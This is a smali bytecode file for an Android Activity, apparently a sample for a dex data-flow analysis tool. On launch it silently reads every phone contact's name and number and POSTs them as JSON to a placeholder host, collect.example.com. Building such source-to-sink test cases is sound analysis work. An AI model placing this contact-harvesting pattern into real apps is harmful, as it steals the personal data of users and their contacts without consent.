.class public Lorg/dexflow/sample/relocated/MainActivity;
.super Landroid/app/Activity;
.source "MainActivity.java"

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 3
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-direct {p0}, Lorg/dexflow/sample/relocated/MainActivity;->collect()Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, Lorg/dexflow/sample/relocated/MainActivity;->upload(Ljava/lang/String;)V
    return-void
.end method

# Reads name and number of every phone contact into a JSONObject {name: number}.
.method private collect()Ljava/lang/String;
    .registers 10
    invoke-virtual {p0}, Lorg/dexflow/sample/relocated/MainActivity;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    new-instance v1, Lorg/json/JSONObject;
    invoke-direct {v1}, Lorg/json/JSONObject;-><init>()V
    :loop
    invoke-interface {v0}, Landroid/database/Cursor;->moveToNext()Z
    move-result v2
    if-eqz v2, :done
    const-string v2, "display_name"
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v2
    invoke-interface {v0, v2}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v2
    const-string v3, "data1"
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v3
    invoke-interface {v0, v3}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v3
    invoke-virtual {v1, v2, v3}, Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
    goto :loop
    :done
    invoke-interface {v0}, Landroid/database/Cursor;->close()V
    invoke-virtual {v1}, Lorg/json/JSONObject;->toString()Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

# POSTs the JSON with OkHttp.
.method private static upload(Ljava/lang/String;)V
    .registers 4
    const-string v0, "application/json; charset=utf-8"
    invoke-static {v0}, Lcom/example/shaded/okhttp3/MediaType;->parse(Ljava/lang/String;)Lcom/example/shaded/okhttp3/MediaType;
    move-result-object v0
    invoke-static {v0, p0}, Lcom/example/shaded/okhttp3/RequestBody;->create(Lcom/example/shaded/okhttp3/MediaType;Ljava/lang/String;)Lcom/example/shaded/okhttp3/RequestBody;
    move-result-object v0
    new-instance v1, Lcom/example/shaded/okhttp3/Request$Builder;
    invoke-direct {v1}, Lcom/example/shaded/okhttp3/Request$Builder;-><init>()V
    const-string v2, "https://collect.example.com/v1/contacts"
    invoke-virtual {v1, v2}, Lcom/example/shaded/okhttp3/Request$Builder;->url(Ljava/lang/String;)Lcom/example/shaded/okhttp3/Request$Builder;
    move-result-object v1
    invoke-virtual {v1, v0}, Lcom/example/shaded/okhttp3/Request$Builder;->post(Lcom/example/shaded/okhttp3/RequestBody;)Lcom/example/shaded/okhttp3/Request$Builder;
    move-result-object v1
    invoke-virtual {v1}, Lcom/example/shaded/okhttp3/Request$Builder;->build()Lcom/example/shaded/okhttp3/Request;
    move-result-object v1
    new-instance v2, Lcom/example/shaded/okhttp3/OkHttpClient;
    invoke-direct {v2}, Lcom/example/shaded/okhttp3/OkHttpClient;-><init>()V
    invoke-virtual {v2, v1}, Lcom/example/shaded/okhttp3/OkHttpClient;->newCall(Lcom/example/shaded/okhttp3/Request;)Lcom/example/shaded/okhttp3/Call;
    move-result-object v2
    invoke-interface {v2}, Lcom/example/shaded/okhttp3/Call;->execute()Lcom/example/shaded/okhttp3/Response;
    return-void
.end method
